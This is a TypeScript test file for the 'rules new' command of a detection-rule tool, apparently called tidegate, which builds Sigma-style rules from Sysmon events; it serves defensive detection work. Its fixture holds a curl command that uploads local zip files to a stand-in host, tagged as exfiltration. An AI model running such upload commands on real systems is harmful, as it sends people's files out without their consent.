import { expect } from 'chai';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { launch, tidegate } from './command.ts';

const UPLOAD = launch({
  second: 7,
  image: 'C:\\Windows\\System32\\curl.exe',
  commandLine: 'curl.exe -T "C:\\data\\it\'s*.zip" https://files.example',
});
const LOOKUP = JSON.stringify({
  EventID: 22,
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Hostname: 'host-1',
  RecordNumber: 9,
  UtcTime: '2026-03-03 10:00:09.000',
  ProcessId: '1007',
  Image: 'C:\\Windows\\System32\\curl.exe',
  QueryName: 'files.example',
});

describe('tidegate rules new', function () {
  this.timeout(180_000);
  let folder: string;
  const read = (name: string): string => readFileSync(join(folder, name), 'utf8');
  const create = (...args: string[]) =>
    tidegate(['rules', 'new', ...args, '--from-events', 'events.ndjson', '--yes'], { cwd: folder });

  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'tidegate-new-'));
    writeFileSync(join(folder, 'events.ndjson'), `${UPLOAD}\n${LOOKUP}\n`);
  });
  afterEach(() => rmSync(folder, { recursive: true, force: true }));

  // [what, options, how many cases]
  const rows: readonly (readonly [string, readonly string[], number])[] = [
    ['what it proposes itself', [], 3],
    ['one field', ['--field', 'Image'], 2],
    ['a text of a field', ['--field', 'CommandLine|contains= -T '], 2],
    ['a value with quotes and wildcards, as it is', ['--field', 'CommandLine'], 2],
    ['an agent above it', ['--agent'], 4],
    ['a window', ['--count', '5', '--within', '60s'], 6],
    ['a window of one', ['--count', '1', '--within', '5m'], 3],
    ['a window for each agent', ['--agent', '--count', '3', '--within', '10s'], 7],
    ['a window for each program', ['--count', '3', '--within', '10s', '--group-by', 'Image'], 6],
    [
      'a window of different values',
      [
        '--line',
        '2',
        '--field',
        'Image',
        '--count',
        '4',
        '--within',
        '1m',
        '--distinct',
        'QueryName',
      ],
      5,
    ],
    ['another line', ['--line', '2'], 3],
  ];
  it('writes rules whose tests pass, and that are sound', async () => {
    for (const [index, [what, options, cases]] of rows.entries()) {
      const name = `rule_${index}`;
      const { code, stdout, stderr } = await create(name, '--tag', 'attack.t1567', ...options);
      expect(stderr, what).to.equal('');
      expect(stdout, what).to.include(`${cases} cases passed in 1 file`);
      expect(code, what).to.equal(0);
    }
    const check = await tidegate(['rules', 'check', folder, '--json']);
    const { problems } = JSON.parse(check.stdout) as {
      readonly problems: readonly { readonly code: string }[];
    };
    // A star of the event is escaped on purpose, and the rows ask much the same.
    const expected = ['escaped-wildcard', 'repeated-rule'];
    expect(problems.filter(({ code }) => !expected.includes(code))).to.deep.equal([]);
  });

  it('says in the rule what its options say', async () => {
    await create(
      ...['my_rule', '--title', 'Agent Uploads: A File', '--level', 'high', '--author', 'Ana'],
      ...['--description', 'A file leaves.', '--tag', 'attack.t1567', '--field', 'Image'],
    );
    const rule = read('my_rule.yml');
    for (const line of [
      "title: 'Agent Uploads: A File'",
      'name: my_rule',
      'author: Ana',
      '  A file leaves.',
      '  - attack.t1567',
      '  product: windows',
      '  category: process_creation',
      "    Image|endswith: '\\curl.exe'",
      'level: high',
    ]) {
      expect(rule.split('\n')).to.include(line);
    }
  });

  it('starts from an alert: its recorded event, or the event inside it', async () => {
    await create('first', '--field', 'Image', '--tag', 'attack.t1567');
    const alert = await tidegate(
      ['scan', 'events.ndjson', '--output', 'ndjson', '--rules', 'first.yml'],
      { cwd: folder },
    );
    writeFileSync(join(folder, 'alert.json'), alert.stdout);
    const from = async (name: string): Promise<string> => {
      const { stdout, stderr } = await tidegate(
        ['rules', 'new', name, '--from-alert', 'alert.json', '--field', 'Image', '--yes'],
        { cwd: folder },
      );
      expect(stderr).to.equal('');
      return stdout;
    };
    expect(await from('second')).to.include('2 cases passed');
    rmSync(join(folder, 'events.ndjson'));
    expect(await from('third')).to.include('2 cases passed');
    expect(read('third.yml')).to.include("Image|endswith: '\\curl.exe'");
  });

  // [what, options, message]
  const wrong: readonly (readonly [string, readonly string[], string])[] = [
    ['a name with dashes', ['my-rule'], "'my-rule' is no name for a rule"],
    [
      'a field that is not there',
      ['r', '--field', 'Nonsense'],
      'the event has no field "Nonsense"; it has Image',
    ],
    ['half a window', ['r', '--count', '5'], 'a window needs both'],
    ['a window without time', ['r', '--count', '5', '--within', 'soon'], "'soon' is not a time"],
    [
      'a group without a window',
      ['r', '--group-by', 'Image'],
      '--distinct and --group-by are of a window',
    ],
    ['a line behind the end', ['r', '--line', '99'], 'no event at line 99'],
  ];
  it('says what is wrong with its options, and writes nothing', async () => {
    for (const [what, options, message] of wrong) {
      const { code, stderr } = await create(...options);
      expect(code, what).to.equal(2);
      expect(stderr, what).to.include(message);
    }
    expect(readdirSync(folder)).to.deep.equal(['events.ndjson']);
  });

  it('overwrites nothing unless it is told to', async () => {
    await create('my_rule');
    const before = read('my_rule.yml');
    const { code, stderr } = await create('my_rule', '--title', 'Other');
    expect(code).to.equal(2);
    expect(stderr).to.include('is there already; --force overwrites it');
    expect(read('my_rule.yml')).to.equal(before);
    expect((await create('my_rule', '--title', 'Other', '--force')).code).to.equal(0);
    expect(read('my_rule.yml')).to.include('title: Other');
  });
});
